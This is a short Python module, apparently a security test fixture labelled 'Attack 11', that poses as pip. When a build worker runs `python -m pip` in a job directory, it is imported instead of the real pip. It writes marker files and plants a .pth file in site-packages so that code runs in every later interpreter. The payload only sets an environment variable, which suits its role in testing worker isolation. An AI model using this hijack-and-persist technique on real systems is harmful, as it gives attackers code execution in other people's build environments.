# Attack 11: a job ships ./pip. A worker that builds the job's environment with
# `python -m pip` in the job directory imports this instead of the real pip: it
# leaves a marker, and plants a .pth (code run by every later interpreter) in the
# environment being built. The test fills in __MARK__ and __MARKDIR__.
import glob
import os
import sys

_mark = "__MARK__"
for _d in (os.getcwd(), "__MARKDIR__", os.environ.get("HOME", "")):
    try:
        with open(os.path.join(_d, f"pip-hijacked-{_mark}"), "w") as _f:
            _f.write(sys.prefix + "\n")
    except OSError:
        pass
for _sp in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages")):
    try:
        with open(os.path.join(_sp, f"zz_{_mark}.pth"), "w") as _f:
            _f.write(f"import os; os.environ['HOMIE_POISONED'] = 'build-{_mark}'\n")
    except OSError:
        pass
